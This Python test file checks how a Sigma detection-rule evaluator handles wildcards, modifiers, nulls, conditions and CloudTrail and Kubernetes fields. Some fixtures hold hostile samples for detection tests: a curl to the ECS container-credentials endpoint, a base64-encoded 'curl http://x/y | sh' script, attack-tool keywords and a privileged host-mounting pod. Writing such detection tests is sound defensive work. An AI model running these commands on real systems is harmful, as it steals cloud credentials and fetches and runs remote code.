"""Sigma's matching semantics on tricky cases, one behaviour per test.

The expectations are the Sigma specification's (sigma-specification, "Sigma Rules
Specification" v2: value matching, modifiers, conditions), not this evaluator's output.
"""

from __future__ import annotations

import pytest

from tests.rules.sigma.helpers import matches, sigma_rule


def sel(field: str, value: object, condition: str = "sel") -> dict[str, object]:
    return {"sel": {field: value}, "condition": condition}


@pytest.mark.parametrize(
    ("value", "record", "expected"),
    [
        ("DeleteBucket", "DeleteBucket", True),
        ("deletebucket", "DeleteBucket", True),  # case-insensitive by default
        ("DELETEBUCKET", "deleteBucket", True),
        ("DeleteBucke", "DeleteBucket", False),  # whole value, not a prefix
        ("Delete*", "DeleteBucket", True),
        ("*bucket", "DeleteBucket", True),
        ("*LETEBU*", "DeleteBucket", True),
        ("Delete?ucket", "DeleteBucket", True),
        ("Delete?ucket", "DeleteBBucket", False),  # ? is exactly one character
        ("D*e*t", "DeleteBucket", True),
        ("D*x*t", "DeleteBucket", False),
        ("*", "", True),  # * matches the empty string of a present field
        ("", "", True),
        ("", "x", False),
    ],
)
def test_strings_wildcards_and_case(value: str, record: str, expected: bool) -> None:
    assert matches(sel("eventName", value), {"eventName": record}) is expected


def test_cased_modifier_keeps_case() -> None:
    assert matches(sel("eventName|cased", "DeleteBucket"), {"eventName": "DeleteBucket"})
    assert not matches(sel("eventName|cased", "deletebucket"), {"eventName": "DeleteBucket"})
    assert not matches(sel("eventName|cased|contains", "bucket"), {"eventName": "DeleteBucket"})
    assert matches(sel("eventName|cased|contains", "Bucket"), {"eventName": "DeleteBucket"})


def test_escaped_wildcards_are_literal() -> None:
    # Sigma escapes: \* and \? are the characters, \\ a backslash (then * is a wildcard)
    assert matches(sel("x", "a\\*b"), {"x": "a*b"})
    assert not matches(sel("x", "a\\*b"), {"x": "axxb"})
    assert matches(sel("x", "a\\?b"), {"x": "a?b"})
    assert not matches(sel("x", "a\\?b"), {"x": "acb"})
    assert matches(sel("x", "a\\\\*"), {"x": "a\\whatever"})
    assert not matches(sel("x", "a\\\\*"), {"x": "awhatever"})
    # a backslash before an ordinary character stays a backslash
    assert matches(sel("x", "C:\\Windows\\\\*"), {"x": "c:\\windows\\system32"})
    assert matches(sel("x", "C:\\Windows\\*"), {"x": "c:\\windows*"})  # \* is a star
    assert not matches(sel("x", "C:\\Windows\\*"), {"x": "c:\\windows\\system32"})
    # regex metacharacters in plain values are plain
    assert matches(sel("x", "a.c*"), {"x": "a.cd"})
    assert not matches(sel("x", "a.c*"), {"x": "abcd"})


def test_contains_startswith_endswith() -> None:
    rec = {"userAgent": "aws-cli/2.15 Python/3.11 TruffleHog"}
    assert matches(sel("userAgent|contains", "trufflehog"), rec)
    assert matches(sel("userAgent|startswith", "AWS-CLI/"), rec)
    assert matches(sel("userAgent|endswith", "hog"), rec)
    assert not matches(sel("userAgent|endswith", "python"), rec)
    assert not matches(sel("userAgent|startswith", "python"), rec)
    # the value's own wildcards stay wildcards under the modifiers
    assert matches(sel("userAgent|contains", "cli/*Python"), rec)


def test_lists_are_or_and_all_is_and() -> None:
    rec = {"eventName": "StopLogging", "userAgent": "console.amazonaws.com S3 Browser"}
    assert matches(sel("eventName", ["UpdateTrail", "stoplogging"]), rec)
    assert not matches(sel("eventName", ["UpdateTrail", "DeleteTrail"]), rec)
    assert matches(sel("userAgent|contains|all", ["console", "s3 browser"]), rec)
    assert not matches(sel("userAgent|contains|all", ["console", "cyberduck"]), rec)


def test_list_of_maps_is_or_and_map_is_and() -> None:
    det = {
        "sel": [{"eventSource": "ssm.amazonaws.com"}, {"eventName": "RegisterManagedInstance"}],
        "condition": "sel",
    }
    assert matches(det, {"eventSource": "ssm.amazonaws.com", "eventName": "x"})
    assert matches(det, {"eventSource": "x", "eventName": "RegisterManagedInstance"})
    assert not matches(det, {"eventSource": "x", "eventName": "y"})
    both = {"sel": {"eventSource": "ssm.amazonaws.com", "eventName": "x"}, "condition": "sel"}
    assert not matches(both, {"eventSource": "ssm.amazonaws.com", "eventName": "y"})


def test_null_means_absent_or_json_null() -> None:
    det = sel("errorCode", None)
    assert matches(det, {"eventName": "DeleteBucket"})
    assert matches(det, {"errorCode": None})
    assert not matches(det, {"errorCode": "AccessDenied"})
    assert not matches(det, {"errorCode": ""})  # empty is a value, not null
    nested = sel("userIdentity.sessionContext", None)
    assert matches(nested, {"userIdentity": {"type": "Root"}})
    assert matches(nested, {"userIdentity": "not an object"})
    assert not matches(nested, {"userIdentity": {"sessionContext": {"a": 1}}})


def test_missing_field_never_matches_a_value_and_not_inverts() -> None:
    assert not matches(sel("errorCode", "*"), {"eventName": "x"})
    assert not matches(sel("errorCode|contains", ""), {"eventName": "x"})
    det = {"sel": {"eventName": "x"}, "filter": {"userIdentity.type": "AssumedRole"},
           "condition": "sel and not filter"}  # fmt: skip
    assert matches(det, {"eventName": "x"})  # filter on an absent field is false
    assert not matches(det, {"eventName": "x", "userIdentity": {"type": "assumedrole"}})


def test_numbers_and_booleans_compare_as_text() -> None:
    assert matches(sel("responseStatus.code", [401, 403]), {"responseStatus": {"code": 403}})
    assert matches(sel("responseStatus.code", 403), {"responseStatus": {"code": "403"}})
    assert not matches(sel("responseStatus.code", 403), {"responseStatus": {"code": 4030}})
    assert matches(
        sel("requestParameters.enable", "false"), {"requestParameters": {"enable": False}}
    )
    assert matches(
        sel("requestParameters.enable", "FALSE"), {"requestParameters": {"enable": False}}
    )
    assert not matches(
        sel("requestParameters.enable", "false"), {"requestParameters": {"enable": True}}
    )
    assert matches(sel("x", True), {"x": True})
    assert matches(sel("x", True), {"x": "True"})
    assert not matches(sel("x", True), {"x": 1})


def test_nested_fields_lists_and_objects() -> None:
    rec = {
        "requestParameters": {
            "containerDefinitions": [
                {"name": "a", "command": ["sh", "-c", "echo hi"]},
                {
                    "name": "b",
                    "command": ["curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"],
                },
            ],
            "VersioningConfiguration": {"Status": "Suspended"},
        },
        "annotations": {"authorization.k8s.io/decision": "allow"},
    }
    f = "requestParameters.containerDefinitions.command|contains"
    assert matches(sel(f, "$aws_container_credentials"), rec)  # through a list of objects
    assert not matches(sel(f, "wget"), rec)
    assert matches(sel("requestParameters.containerDefinitions.name", "b"), rec)
    assert matches(sel("requestParameters|contains", "suspended"), rec)  # searched through
    assert matches(sel("requestParameters.VersioningConfiguration.Status", "Suspended"), rec)
    assert not matches(sel("requestParameters.VersioningConfiguration", "Suspended*x"), rec)
    assert matches(sel("annotations.authorization.k8s.io/decision", "ALLOW"), rec)  # dotted key
    assert not matches(sel("requestParameters.nothere.x", "*"), rec)


def test_regex_is_unanchored_and_case_sensitive() -> None:
    rec = {
        "userIdentity": {"arn": "arn:aws:sts::123456789012:assumed-role/aws:ec2-instance/i-0abc"}
    }
    assert matches(sel("userIdentity.arn|re", ".+:assumed-role/aws:.+"), rec)
    assert matches(sel("userIdentity.arn|re", "assumed-role"), rec)  # search, not full match
    assert not matches(sel("userIdentity.arn|re", "ASSUMED-ROLE"), rec)
    assert matches(sel("userIdentity.arn|re|i", "ASSUMED-ROLE"), rec)
    assert not matches(sel("userIdentity.arn|re", "^assumed"), rec)


def test_cidr() -> None:
    det = sel("sourceIPAddress|cidr", ["10.0.0.0/8", "2001:db8::/32"])
    assert matches(det, {"sourceIPAddress": "10.20.30.40"})
    assert matches(det, {"sourceIPAddress": "2001:db8::1"})
    assert not matches(det, {"sourceIPAddress": "11.0.0.1"})
    assert not matches(det, {"sourceIPAddress": "AWS Internal"})  # not an address
    assert not matches(det, {"sourceIPAddress": "ec2.amazonaws.com"})


def test_base64_and_base64offset() -> None:
    assert matches(sel("x|base64", "http://"), {"x": "aHR0cDovLw=="})
    assert not matches(sel("x|base64", "http://"), {"x": "http://"})
    det = sel("userData|base64offset|contains", "curl http")
    # "curl http" encoded at the three byte offsets inside longer texts
    import base64

    for prefix in ("", "a", "ab"):
        blob = base64.b64encode(f"{prefix}#!/bin/sh\ncurl http://x/y | sh".encode()).decode()
        assert matches(det, {"userData": blob}), prefix
    assert not matches(det, {"userData": base64.b64encode(b"#!/bin/sh\nwget http://x").decode()})


def test_exists() -> None:
    assert matches(sel("errorCode|exists", True), {"errorCode": "AccessDenied"})
    assert matches(sel("errorCode|exists", True), {"errorCode": ""})
    assert not matches(sel("errorCode|exists", True), {"errorCode": None})
    assert not matches(sel("errorCode|exists", True), {})
    assert matches(sel("errorCode|exists", False), {})
    assert not matches(sel("errorCode|exists", False), {"errorCode": "x"})
    assert matches(sel("requestParameters|exists", True), {"requestParameters": {"a": 1}})


def test_fieldref() -> None:
    det = sel("userIdentity.userName|fieldref", "requestParameters.userName")
    assert matches(
        det, {"userIdentity": {"userName": "alice"}, "requestParameters": {"userName": "Alice"}}
    )
    assert not matches(
        det, {"userIdentity": {"userName": "alice"}, "requestParameters": {"userName": "bob"}}
    )
    assert not matches(det, {"userIdentity": {"userName": "alice"}})
    ends = sel("userIdentity.arn|fieldref|endswith", "requestParameters.userName")
    rec = {
        "userIdentity": {"arn": "arn:aws:iam::1:user/alice"},
        "requestParameters": {"userName": "alice"},
    }
    assert matches(ends, rec)
    inner = sel("userIdentity.arn|fieldref|contains", "requestParameters.userName")
    assert matches(inner, {**rec, "requestParameters": {"userName": "USER/Al"}})
    starts = sel("userIdentity.arn|fieldref|startswith", "requestParameters.userName")
    assert not matches(starts, rec)
    assert matches(starts, {**rec, "requestParameters": {"userName": "ARN:aws"}})
    assert not matches(sel("userIdentity.arn|fieldref", "requestParameters.userName"), rec)


def test_numeric_comparison() -> None:
    assert matches(
        sel("additionalEventData.bytesTransferredOut|gt", 1000),
        {"additionalEventData": {"bytesTransferredOut": 5000}},
    )
    assert not matches(
        sel("additionalEventData.bytesTransferredOut|gt", 1000),
        {"additionalEventData": {"bytesTransferredOut": 10}},
    )
    assert matches(sel("n|lte", 3), {"n": "3"})


def test_keywords_search_every_value() -> None:
    det = {"keywords": ["trufflehog", "azure*hound"], "condition": "keywords"}
    assert matches(det, {"userAgent": "Go-http-client TruffleHog/3.0"})
    assert matches(det, {"a": {"b": ["x", "AzureHound v2"]}})
    assert not matches(det, {"userAgent": "aws-cli/2"})


def test_one_of_all_of_and_wildcard_selectors() -> None:
    det = {
        "selection_a": {"eventName": "A"},
        "selection_b": {"eventName": "B"},
        "filter_1": {"userAgent": "bot"},
        "filter_2": {"sourceIPAddress": "AWS Internal"},
        "condition": "1 of selection_* and not 1 of filter*",
    }
    assert matches(det, {"eventName": "b", "userAgent": "cli"})
    assert not matches(det, {"eventName": "c", "userAgent": "cli"})
    assert not matches(det, {"eventName": "a", "userAgent": "bot"})
    assert not matches(det, {"eventName": "a", "sourceIPAddress": "aws internal"})
    every = {"s1": {"eventName": "A"}, "s2": {"eventSource|endswith": ".amazonaws.com"},
             "condition": "all of them"}  # fmt: skip
    assert matches(every, {"eventName": "A", "eventSource": "s3.amazonaws.com"})
    assert not matches(every, {"eventName": "A", "eventSource": "s3.example"})
    all_sel = {"sel_1": {"a": "1"}, "sel_2": {"b": "2"}, "other": {"c": "3"},
               "condition": "all of sel_* or other"}  # fmt: skip
    assert matches(all_sel, {"a": "1", "b": "2"})
    assert not matches(all_sel, {"a": "1"})
    assert matches(all_sel, {"c": "3"})


def test_parentheses_and_precedence() -> None:
    base = {"a": {"x": "1"}, "b": {"y": "2"}, "c": {"z": "3"}}
    rec = {"x": "1", "y": "0", "z": "3"}
    # and binds tighter than or: a or (b and c)
    assert matches({**base, "condition": "a or b and c"}, rec)
    assert not matches({**base, "condition": "(a or b) and not c"}, rec)
    assert matches({**base, "condition": "not (b or not c)"}, rec)
    assert not matches({**base, "condition": "not a or b"}, rec)


def test_multiple_conditions_are_or() -> None:
    det = {"a": {"x": "1"}, "b": {"y": "2"}, "condition": ["a", "b"]}
    assert matches(det, {"y": "2"})
    assert not matches(det, {"x": "2"})


def test_k8s_mapped_fields() -> None:
    pod = {
        "auditID": "1", "verb": "create", "objectRef": {"resource": "pods", "apiGroup": ""},
        "requestObject": {"spec": {
            "volumes": [{"name": "root", "hostPath": {"path": "/", "type": ""}}],
            "initContainers": [
                {"name": "i", "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}
            ],
            "containers": [{"name": "c", "image": "busybox"}],
        }},
    }  # fmt: skip
    assert matches(sel("hostPath", "*"), pod, "k8s_audit")
    assert matches(sel("capabilities|contains", "sys_admin"), pod, "k8s_audit")
    bare = {**pod, "requestObject": {"spec": {"containers": [{"name": "c"}]}}}
    assert not matches(sel("hostPath", "*"), bare, "k8s_audit")
    assert not matches(sel("capabilities", "*"), bare, "k8s_audit")
    ev = {"auditID": "1", "objectRef": {"apiGroup": "apps"}, "responseStatus": {"code": 403},
          "annotations": {"authorization.k8s.io/decision": "forbid"}}  # fmt: skip
    assert matches(sel("apiGroup", "apps"), ev, "k8s_audit")
    assert matches(sel("responseStatus.code", 403), ev, "k8s_audit")
    assert matches(sel("responseStatus.code", "forbid"), ev, "k8s_audit")
    assert not matches(sel("responseStatus.code", "allow"), ev, "k8s_audit")


def test_cloudtrail_status_is_derived_from_error_code() -> None:
    assert matches(sel("status", "success"), {"eventName": "x"})
    assert matches(sel("status", "success"), {"eventName": "x", "errorCode": None})
    assert not matches(sel("status", "success"), {"errorCode": "AccessDenied"})
    assert matches(sel("status", "failure"), {"errorCode": "AccessDenied"})


def test_non_dict_values_on_the_way_do_not_crash() -> None:
    rule = sigma_rule(sel("a.b.c|contains", "x"))
    for rec in (
        {"a": 1},
        {"a": [1, "x", None]},
        {"a": {"b": [{"c": None}, {"c": "xx"}]}},
        {"a": None},
    ):
        rule.check(rec)
    assert rule.check({"a": {"b": [{"c": None}, {"c": "xx"}]}})


def test_other_modifiers() -> None:
    assert matches(sel("x|neq", "a"), {"x": "b"})
    assert not matches(sel("x|neq", "a"), {"x": "A"})
    assert matches(sel("x|windash|contains", "-enc"), {"x": "powershell /enc AAA"})
    assert matches(sel("x|wide|base64offset|contains", "ping"), {"x": "cABpAG4AZwA="})
    assert matches(sel("x|re|m", "^b$"), {"x": "a\nb\nc"})
    assert not matches(sel("x|re", "^b$"), {"x": "a\nb\nc"})
    assert matches(sel("x|re|s", "a.c"), {"x": "a\nc"})
    assert matches(sel("n|gte", 3), {"n": 3}) and not matches(sel("n|gt", 3), {"n": 3})
    assert matches({"a": {"x": "1"}, "b": {"y": "2"}, "condition": "1 of them"}, {"y": "2"})


def test_unsupported_modifiers_and_odd_conditions_are_load_errors() -> None:
    from mamori.rules.sigma import load_sigma_text

    for det in (
        "{sel: {x: 1}, condition: 5}",
        "{sel: {x: 1}, condition: [sel, true]}",
        "{sel: {x: 1}, condition: 'sel | count() > 5'}",
        "{sel: {x|expand: '%hosts%'}, condition: sel}",
        "{sel: {t|minute: 5}, condition: sel}",
    ):
        doc = f"title: t\nlogsource: {{product: aws, service: cloudtrail}}\ndetection: {det}\n"
        result = load_sigma_text(doc, "u.yml")
        assert not result.rules and result.errors, det
        assert all(m.path == "u.yml" and m.rule == "t" for m in result.errors)


def test_regex_runs_in_linear_time() -> None:
    # exponential for a backtracking engine (Python's re would not return)
    import time

    rule = sigma_rule(sel("userAgent|re", "^(a+)+$"))
    start = time.process_time()
    assert not rule.check({"userAgent": "a" * 5000 + "!"})
    assert rule.check({"userAgent": "a" * 5000})
    assert time.process_time() - start < 1.0


def test_many_wildcards_run_in_linear_time() -> None:
    import time

    rule = sigma_rule(sel("x", "*a*b*c*d*e*f*g*z"))
    start = time.process_time()
    assert not rule.check({"x": "abcdefg" * 3000})
    assert rule.check({"x": "abcdefg" * 3000 + "z"})
    assert time.process_time() - start < 1.0
